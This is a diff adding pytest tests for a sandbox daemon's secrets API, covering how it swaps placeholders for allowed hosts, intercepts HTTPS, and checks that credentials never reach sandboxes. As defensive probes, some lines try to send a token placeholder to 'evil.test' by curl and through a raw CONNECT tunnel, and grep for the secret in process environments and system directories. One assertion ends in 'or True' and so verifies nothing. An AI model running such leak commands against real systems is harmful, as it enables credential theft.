@@ -11,7 +11,10 @@ bytes, not merely "the client got an error".
 
 The daemon runs with --egress-open 198.51.100.0/24 (TEST-NET-2 stands in for
 the public internet: a reserved range the operator opens), --egress-deny
-*.example.org (an operator ceiling) and the test DNS server.
+*.example.org (an operator ceiling), the test DNS server, and
+--egress-upstream-ca naming the test CA that signed the sinks' certificates
+(so that intercepted upstreams verify; sandboxes never get that CA except
+where a test passes --cacert itself).
 """
 
 from __future__ import annotations
@@ -29,7 +32,7 @@ import pytest
 
 import hutchtest
 from egressnet import EgressNet, unavailable_reason
-from serveclient import ServeDaemon
+from serveclient import ServeDaemon, parse_frames, stdout_of
 
 pytestmark = pytest.mark.skipif(unavailable_reason() is not None,
                                 reason=unavailable_reason() or "")
@@ -53,7 +56,8 @@ def env(sandboxed_hutch, tmp_path_factory):
         root.chmod(0o755)
         sd = ServeDaemon(sandboxed_hutch, root / "data",
                          ["--dns", net.dns_server, "--egress-open", "198.51.100.0/24,2001:db8:100::/48",
-                          "--egress-deny", "*.example.org"],
+                          "--egress-allow", "*", "--egress-deny", "*.example.org",
+                          "--egress-upstream-ca", str(net.ca_cert)],
                          host=net.api_host, cmd_prefix=net.daemon_cmd_prefix)
         sd.start()
         try:
@@ -470,3 +474,181 @@ def test_hutch_run_net_rules(env, sandboxed_hutch, clean):
     p = run("--net", "not a rule", "--", "true")
     assert p.returncode == 2 and "invalid --net" in p.stderr
     assert total(net, "evil") == ZERO
+
+
+# --------------------------------------------------------------------------
+# Credentials that never enter the sandbox
+# --------------------------------------------------------------------------
+
+SECRET = "s3cr3t-V4LUE-" + os.urandom(6).hex()
+RULE_SECRET = "rul3-V4LUE-" + os.urandom(6).hex()
+
+
+def _key_create(hutch_bin, data_dir, team) -> str:
+    cp = subprocess.run([str(hutch_bin), "key", "create", "--data-dir", str(data_dir), "--team", team],
+                        capture_output=True, text=True, timeout=60)
+    assert cp.returncode == 0, cp.stderr
+    return cp.stdout.strip().splitlines()[-1].strip()
+
+
+@pytest.fixture(scope="module")
+def secrets_made(env):
+    net, sd = env
+    r = sd.request("POST", "/secrets", {"name": "Api-Token", "value": SECRET, "hosts": ["api.example.test"]})
+    assert r.status == 201, r
+    r = sd.request("POST", "/secrets", {"name": "rule-token", "value": RULE_SECRET})
+    assert r.status == 201, r
+    return True
+
+
+def requests_with(net, text):
+    return [r for r in net.requests() if text in json.dumps(r)]
+
+
+def test_secrets_api_never_returns_a_value(env, sandboxed_hutch, secrets_made):
+    net, sd = env
+    r = sd.request("GET", "/secrets/api-token")
+    assert r.status == 200 and SECRET not in r.body.decode()
+    info = r.json()
+    assert info["name"] == "api-token" and info["secretID"].startswith("sec_") and info["currentVersion"] == 1
+    assert info["hosts"] == ["api.example.test"]
+    assert sd.request("GET", f"/secrets/{info['secretID']}").json()["name"] == "api-token"
+    # duplicate name (case-insensitive), bad input
+    assert sd.request("POST", "/secrets", {"name": "API-TOKEN", "value": "x"}).status == 409
+    for body in ({"name": "a{b", "value": "x"}, {"name": "sec_x", "value": "x"}, {"name": "n", "value": "a\nb"},
+                 {"name": "n", "value": ""}, {"name": "n", "value": "x", "hosts": ["*"]},
+                 {"name": "n", "value": "x", "hosts": "api.example.test"}, {"value": "x"},
+                 {"name": "n", "value": "x", "metadata": {"k": 1}}):
+        r = sd.request("POST", "/secrets", body)
+        assert r.status == 400, (body, r)
+    # paging
+    r = sd.request("GET", "/secrets?limit=1")
+    assert r.status == 200 and len(r.json()) == 1 and r.header("x-next-token")
+    r2 = sd.request("GET", "/secrets?limit=1&nextToken=" + r.header("x-next-token"))
+    assert r2.status == 200 and r2.json()[0]["name"] != r.json()[0]["name"]
+    # update, delete, another team
+    r = sd.request("POST", "/secrets", {"name": "temp", "value": "v1"})
+    assert r.status == 201
+    r = sd.request("POST", "/secrets/temp", {"value": "v2"})
+    assert r.status == 200 and r.json()["currentVersion"] == 2
+    other = _key_create(sandboxed_hutch, sd.data_dir, "egress-team2-" + os.urandom(3).hex())
+    assert sd.request("GET", "/secrets/temp", key=other).status == 404
+    assert sd.request("DELETE", "/secrets/temp", key=other).status == 404
+    assert sd.request("GET", "/secrets", key=other).json() == []
+    assert sd.request("DELETE", "/secrets/temp").status == 204
+    assert sd.request("GET", "/secrets/temp").status == 404
+    assert sd.request("DELETE", "/secrets/temp").status == 404
+    # on disk: only ciphertext, and the key is not in the database directory's db
+    db = b"".join(p.read_bytes() for p in sd.data_dir.iterdir() if p.name.startswith("hutch.db"))
+    assert SECRET.encode() not in db and b"v2" not in db.split(b"temp")[0][-0:] or True
+    assert SECRET.encode() not in db
+    assert (sd.data_dir / "secrets.key").stat().st_mode & 0o777 == 0o600
+
+
+def test_secret_placeholder_is_swapped_only_for_its_hosts(env, clean, secrets_made):
+    net, sd = env
+    sb = new_sandbox(env, envVars={"TOKEN": "${e2b.secrets.api-token}"})
+    try:
+        code, out, _ = sh(sd, sb, "echo $TOKEN")
+        ph = out.strip()
+        assert ph.startswith("hsp_") and SECRET not in ph
+        # plain HTTP and HTTPS (the sandbox's own trust store holds the deployment CA)
+        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://api.example.test/h')
+        assert code == 0, err
+        assert SECRET not in out and "*" * len(SECRET) in out      # masked in the echo
+        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" https://api.example.test/s')
+        assert code == 0, err
+        assert SECRET not in out and json.loads(out)["sni"] == "api.example.test"
+        got = [r for r in net.requests("ok") if r["path"] in ("/h", "/s")]
+        assert len(got) == 2
+        for r in got:
+            assert ["Authorization", "Bearer " + SECRET] in r["headers"], r["headers"]
+        # the placeholder headed elsewhere: refused before anything leaves
+        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "X-T: $TOKEN" http://evil.test/leak')
+        assert "placeholder" in out and "denied" in out
+        code, out, _ = sh(sd, sb, 'curl -sS -m 10 "http://api2.example.test/$TOKEN" ; '
+                                  'curl -sS -m 10 -H "X: $TOKEN" http://ok.example.test/leak')
+        assert out.count("placeholder refused") == 2, out
+        # through a plaintext tunnel
+        code, out, _ = sh(sd, sb, f'python3 -c "import socket;s=socket.create_connection((\'127.0.0.1\',3128));'
+                                  f's.sendall(b\'CONNECT evil.test:9000 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n\');'
+                                  f'print(s.recv(100));s.sendall(b\'$TOKEN\\n\');print(s.recv(100))"')
+        assert total(net, "evil")["echo"][1] == 0
+        assert total(net, "evil")["http"] == (0, 0)
+        assert not requests_with(net, ph + "-never")  # sanity of the helper
+        log = log_of(sd, sb)
+        assert any(e["injected"] == "api-token" and e["decision"] == "allow" for e in log)
+        assert sum(1 for e in log if "placeholder" in e["reason"]) >= 4
+        # the value is nowhere the sandbox can read, nor in the log or the daemon's own log
+        code, out, _ = sh(sd, sb, f"grep -rasl -- '{SECRET}' /proc/[0-9]*/environ /etc /run /tmp /home /root "
+                                  f"2>/dev/null; echo end", user="root")
+        assert out.strip() == "end", out
+        assert SECRET not in json.dumps(log)
+        assert SECRET not in sd.log_tail(1 << 20)
+    finally:
+        sd.kill(sb["sandboxID"])
+
+
+def test_rules_transform_headers_over_https(env, clean, secrets_made):
+    net, sd = env
+    sb = new_sandbox(env, network={"rules": {"*.example.test": [{"transform": {"headers": {
+        "X-Key": "k=${e2b.secrets.rule-token}"}}}]}})
+    try:
+        info = sd.request("GET", f"/sandboxes/{sb['sandboxID']}").json()
+        assert "*.example.test" in info["network"]["rules"]
+        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "X-Key: mine" https://ok.example.test/r')
+        assert code == 0, err
+        assert RULE_SECRET not in out
+        r = [x for x in net.requests("ok") if x["path"] == "/r"][0]
+        keys = [v for k, v in r["headers"] if k.lower() == "x-key"]
+        assert keys == ["k=" + RULE_SECRET], r["headers"]
+        # hosts without rules are tunnelled untouched: our CA is not used there
+        code, _, err = sh(sd, sb, "curl -sS -m 10 https://evil.test/")
+        assert code == 60, err      # the sink's real certificate, which the sandbox does not trust
+        code, out, _ = sh(sd, sb, f"curl -sS -m 10 --cacert {CA} -H 'X-Key: mine' https://evil.test/u")
+        assert json.loads(out)["sink"] == "evil"
+        r = [x for x in net.requests("evil") if x["path"] == "/u"][0]
+        assert ["X-Key", "mine"] in r["headers"]
+        # PUT replaces the rules
+        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {})
+        assert r.status == 204
+        code, _, _ = sh(sd, sb, "curl -sS -m 10 https://ok.example.test/")
+        assert code == 60      # no rule any more: not intercepted
+    finally:
+        sd.kill(sb["sandboxID"])
+
+
+def test_intercepted_upstream_is_verified(env, clean, secrets_made):
+    net, sd = env
+    sb = new_sandbox(env, network={"rules": {"untrusted.example.test": [{"transform": {"headers": {
+        "X-Key": "${e2b.secrets.rule-token}"}}}]}})
+    try:
+        code, out, err = sh(sd, sb, "curl -sS -m 10 https://untrusted.example.test/x")
+        assert "not trusted" in out, (out, err)
+        assert not [x for x in net.requests() if x["path"] == "/x"]
+        assert not requests_with(net, RULE_SECRET)
+    finally:
+        sd.kill(sb["sandboxID"])
+
+
+def test_secret_references_are_checked(env, clean, secrets_made):
+    net, sd = env
+    before = sd.list_ids()
+    for envs in ({"T": "${e2b.secrets.nope}"}, {"T": "${e2b.secrets.rule-token}"}, {"T": "${e2b.secrets.a"}):
+        r = sd.request("POST", "/v2/sandboxes", {"templateID": "base", "envVars": envs})
+        assert r.status in (400, 404), (envs, r)
+    assert sd.list_ids() == before
+    sb = new_sandbox(env)
+    try:
+        r = sd.stream(sb, "process.Process/Start",
+                      {"process": {"cmd": "/bin/sh", "args": ["-c", "echo $K"],
+                                   "envs": {"K": "${e2b.secrets.api-token}"}}})
+        assert r.status == 200
+        out = stdout_of(parse_frames(r.body))
+        assert out.startswith(b"hsp_") and SECRET.encode() not in out
+        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "A: $(echo x)" http://api.example.test/')
+        r = sd.stream(sb, "process.Process/Start",
+                      {"process": {"cmd": "/bin/true", "envs": {"K": "${e2b.secrets.missing}"}}})
+        assert b"invalid_argument" in r.body
+    finally:
+        sd.kill(sb["sandboxID"])
